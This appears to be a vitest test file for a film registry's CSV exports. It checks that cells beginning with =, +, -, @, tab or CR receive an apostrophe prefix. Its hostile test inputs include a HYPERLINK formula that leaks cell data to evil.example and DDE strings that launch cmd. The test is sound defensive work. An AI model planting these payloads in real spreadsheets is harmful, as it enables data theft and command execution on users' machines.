// CSV formula injection (issue 12): a film title or reason such as `=HYPERLINK(…)` must reach a spreadsheet as text.
// Every cell starting with = + - @ tab or CR gets a leading apostrophe (OWASP), in the CLI export and on /registry.csv.
import { afterEach, describe, expect, it } from 'vitest';
import { registryCsv } from '../../registry/exports.ts';
import { tempDirs } from '../kit/temp.ts';
import { startApi, type Api } from './api-harness.ts';
import { seedFilm } from './registry-fixtures.ts';

const tmp = tempDirs('kuzet-csv-');
let api: Api | undefined;
afterEach(async () => {
  await api?.close();
  api = undefined;
});

describe('CSV exports', () => {
  it('neutralises cells that a spreadsheet would run as a formula (=, +, -, @, tab, CR)', async () => {
    api = await startApi(tmp());
    const { app, db } = api;
    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd|\'/C calc\'!A0', '\t=1+1', '\r=1+1'];
    for (const [i, t] of hostile.entries()) {
      await seedFilm(db, `film_${i}`, { kk: t, ru: t, en: t });
      await db.query(
        `INSERT INTO registry_entries (id, domain, status, serial, activated_at, reason, film_ids) VALUES ($1, $2, 'active', $3, now(), $4, ARRAY[$5])`,
        [`reg_${i}`, `p${i}.example.kz`, i + 1, i === 0 ? '=1+1' : 'reason', `film_${i}`],
      );
    }
    for (const csv of [await registryCsv(db), (await app.inject({ url: '/registry.csv' })).body]) {
      const cells = parseCsv(csv).slice(1).flat();
      expect(cells.length).toBe(hostile.length * 6);
      for (const c of cells) expect(c, JSON.stringify(c)).not.toMatch(/^[=+\-@\t\r]/);
      const titles = parseCsv(csv).slice(1).map((row) => row[4]);
      expect(titles).toEqual(hostile.map((t) => `'${t}`));
      expect(parseCsv(csv)[1]![5]).toBe(`'=1+1`);
    }
  });
});

/** RFC 4180 parser (quoted cells may hold commas, quotes and line breaks), independent of the exporter. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { cell += '"'; i++; }
      else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') { row.push(cell); cell = ''; }
    else if (c === '\r' && text[i + 1] === '\n') { row.push(cell); rows.push(row); row = []; cell = ''; i++; }
    else cell += c;
  }
  if (cell || row.length) { row.push(cell); rows.push(row); }
  return rows;
}
